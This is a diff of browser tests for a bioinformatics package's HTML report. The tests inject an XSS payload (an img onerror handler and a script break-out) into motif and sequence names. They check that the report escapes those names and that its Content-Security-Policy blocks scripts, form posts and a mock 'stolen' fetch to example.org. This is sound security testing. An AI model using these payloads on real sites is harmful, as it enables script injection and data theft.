@@ -1,10 +1,17 @@
-"""What people touch in a browser: the reader in a report, driven by mouse and keyboard."""
+"""What people touch in a browser: a report with its reader, rules and designs, and the widgets in Voila and JupyterLab, driven by mouse and keyboard."""
+import base64
+import re
+import shutil
+from dataclasses import replace
+from html import escape
+
 import numpy as np
 import pytest
 
 from argminn.data import fit_length
+from argminn.motifs import consensus_motif
 from argminn.recipe import predict_logits
-from argminn.run import Run
+from argminn.run import Run, compile_formula, write_report
 from argminn.sequences import encode
 from conftest import fasta
 
@@ -19,6 +26,7 @@ def opened(browser, request):
     def open_(file, **options):
         page = browser.new_page(**options)
         told = []
+        page.add_init_script("document.addEventListener('securitypolicyviolation', e => console.error('policy: ' + e.violatedDirective))")
         page.on("pageerror", lambda e: told.append(f"error: {e}"))
         page.on("console", lambda m: told.append(f"console: {m.text}") if m.type in ("error", "warning") else None)
         page.on("request", lambda r: told.append(f"request: {r.url}") if not r.url.startswith(("file://", "data:")) else None)
@@ -86,6 +94,127 @@ def test_reader_page_in_both_schemes(small_run, opened, tmp_path, scheme):
     ink = page.evaluate("getComputedStyle(document.querySelector('#argminn-reader')).color")
     assert (np.mean([int(x) for x in ink[4:-1].split(",")]) > 128) == (scheme == "dark")
     assert page.locator("h1").inner_text() == "<b>a title" and page.locator("img").count() == 0
+
+
+EVIL = "<img src=x onerror=window.hit=1></script><script>window.hit=2</script>"
+
+
+@pytest.fixture(scope="session")
+def evil_report(small_run, tmp_path_factory):
+    "The report of a run whose motifs and sequences have names that would be scripts."
+    folder = tmp_path_factory.mktemp("evil") / "run"
+    shutil.copytree(small_run, folder)
+    for name in ("examples.tsv", "instances.tsv"): (folder / name).write_text(re.sub(r"^(chr\d)", lambda m: m[1] + EVIL, (folder / name).read_text(), flags=re.M))
+    run = Run.load(folder)
+    run.found = [replace(m, motif=replace(m.motif, name=EVIL)) for m in run.found]
+    return write_report(run)
+
+
+def test_names_stay_names(evil_report, opened):
+    "Nothing that a name says runs; the reader does; the policy has nothing to object."
+    page = opened(evil_report)
+    assert page.evaluate("window.hit") is None and page.locator("img[src=x]").count() == 0 and EVIL in page.inner_text("h3 >> nth=0")
+    assert page.locator(".argminn-reader .base").count() == 60 and page.locator(".argminn-studio .letters").count() == 1
+
+
+def test_policy_holds_where_a_name_is_not_escaped(evil_report, browser, tmp_path):
+    "Were a name markup after all: no script, no handler, no style, no request."
+    text = evil_report.read_text()
+    policy = re.search('http-equiv="Content-Security-Policy" content="([^"]*)"', text)[1]
+    assert "unsafe" not in policy and {"default-src 'none'", "img-src data:", "connect-src 'none'", "base-uri 'none'", "form-action 'none'"} <= {x.strip() for x in policy.split(";")}
+    (tmp_path / "broken.html").write_text(text.replace(escape(EVIL), EVIL + "<span id=bold style=color:red></span>", 1).replace("<body", "<base href=https://example.org><body"))
+    page, asked = browser.new_page(), []
+    page.add_init_script("window.violations = []; document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective))")
+    page.on("request", lambda r: asked.append(r.url) if not r.url.startswith(("file://", "data:")) else None)
+    page.goto(f"file://{tmp_path / 'broken.html'}")
+    assert page.locator("#bold").count() == 1 # it is markup
+    assert page.evaluate("fetch('https://example.org/?stolen').catch(() => 'refused')") == "refused"
+    page.evaluate("() => { const f = document.createElement('form'); f.action = 'https://example.org'; document.body.append(f); f.submit(); }")
+    page.wait_for_function("violations.includes('form-action')")
+    assert {"script-src-elem", "script-src-attr", "style-src-attr", "img-src", "connect-src", "base-uri", "form-action"} <= set(page.evaluate("violations"))
+    assert page.evaluate("window.hit") is None and asked == [] and page.locator(".argminn-reader .base").count() == 60
+    page.close()
+
+
+@pytest.fixture(scope="session")
+def pair_run(tmp_path_factory):
+    "A run that was made from a pair at a gap, and the sequences on which its rules were tested."
+    from argminn.compiler import compile_network, probes
+    motifs = [replace(consensus_motif(text), name=name, motif_id=name) for text, name in (("ACGTCATCG", "A"), ("TTCGAGGC", "B"))]
+    run = compile_formula(PAIR, motifs, 80, tmp_path_factory.mktemp("pair") / "run", n=1000)
+    return run, probes(compile_network(PAIR, motifs, 80), 1000, 0)[800:]
+
+
+PAIR = "exists x y. A(x,+) & B(y,+) & gap(x,y) in [0,12]"
+
+
+def table(card): return [[cell.inner_text() for cell in row.locator("td").all()] for row in card.locator("table.support tr").all()[1:]]
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_rule_cards(pair_run, opened, scheme):
+    "The window of a gap moves by keyboard and by mouse; the counts are those of `RuleExplorer`."
+    from argminn.widgets import RuleExplorer
+    run, sequences = pair_run
+    explorer, page = RuleExplorer(run, sequences), opened(run.path / "report.html", color_scheme=scheme, viewport=dict(width=1100, height=900))
+    rule = run.rules.short.rules[0]
+    card = page.locator(f"[data-rule={rule.rule_id}]")
+    least, most = card.get_by_role("slider").all()
+
+    def same_as_python(window):
+        explorer.formula = replace(rule, gap=window).formula
+        assert card.locator("code").inner_text() == explorer.formula
+        for told, row in zip(table(card), explorer.table.itertuples(index=False)):
+            assert told[:2] == [str(row[0]), str(row[1])] and told[2] == f"{100 * row[2]:.1f} %"
+            for mine, his in zip(told[3:], row[3:]): assert mine == "–" if his != his else abs(float(mine) - his) < 2e-3
+        return table(card)
+
+    seen = [same_as_python(rule.gap)]
+    assert card.get_by_role("button", name="as found").is_disabled()
+    most.focus()
+    for _ in range(4): page.keyboard.press("ArrowLeft")
+    seen.append(same_as_python((rule.gap[0], rule.gap[1] - 4)))
+    least.focus()
+    for _ in range(rule.gap[1] - 2 - rule.gap[0]): page.keyboard.press("ArrowRight") # past the other end, which gives way
+    seen.append(same_as_python((rule.gap[1] - 2,) * 2))
+    picture = card.locator("svg.gaps").bounding_box()
+    page.mouse.move(picture["x"] + picture["width"] / 2, picture["y"] + 40)
+    page.mouse.down()
+    page.mouse.move(picture["x"] + picture["width"] - 3, picture["y"] + 40, steps=4)
+    page.mouse.up()
+    ends = [int(e.input_value()) for e in (least, most)]
+    assert ends[1] > rule.gap[1] and card.locator(".window").bounding_box()["x"] > picture["x"]
+    seen.append(same_as_python(tuple(ends)))
+    assert len({str(x) for x in seen}) > 2 # they do differ
+    card.get_by_role("button", name="as found").click()
+    assert same_as_python(rule.gap) == seen[0]
+    paper = page.evaluate("getComputedStyle(document.querySelector('.argminn-card')).backgroundColor")
+    assert (np.mean([int(x) for x in re.findall(r"\d+", paper)[:3]]) < 128) == (scheme == "dark")
+
+
+def test_designs_in_the_report(pair_run, small_run, opened):
+    "A design opens by mouse and keyboard; FASTA as Python writes it; the reader takes the sequence."
+    from argminn.apply import design_sequences
+    run, _ = pair_run
+    page, rule = opened(run.path / "report.html"), run.rules.short.rules[0]
+    made, studio = design_sequences(run, rule.rule_id, n=8), page.locator(".argminn-studio")
+    link = studio.get_by_role("link", name="designs as FASTA").first
+    text = made.fasta.replace(f"rule={rule.rule_id} ", "")
+    assert base64.b64decode(link.get_attribute("href").split(",")[1]).decode() == text and link.get_attribute("download") == f"designs_{rule.rule_id}.fa"
+    with page.expect_download() as download: link.click()
+    assert open(download.value.path()).read() == text
+    rows = studio.locator("[data-part]").first.locator(".design")
+    rows.nth(2).click()
+    assert studio.locator(".letters").inner_text() == made.sequences[2] and rows.nth(2).get_attribute("aria-pressed") == "true"
+    page.keyboard.press("ArrowDown")
+    assert studio.locator(".letters").inner_text() == made.sequences[3] and "design_4" in studio.inner_text() and page.evaluate("document.activeElement.dataset.at") == "3"
+    sites = made.sites[made.sites.name == "design_4"].sort_values("start")
+    assert studio.locator(".letters .site").all_inner_texts() == [made.sequences[3][s.start:s.end] for s in sites.itertuples()]
+    page, other = opened(small_run / "report.html"), Run.load(small_run)
+    studio = page.locator(".argminn-studio")
+    if studio.get_by_label("rule", exact=True).count(): studio.get_by_label("rule", exact=True).select_option(index=1)
+    studio.get_by_role("button", name="Open in the reader").click()
+    assert page.locator(".argminn-reader textarea").input_value() == studio.locator(".letters").inner_text() and logit(page) > 0
 
 
 PANELS = '''
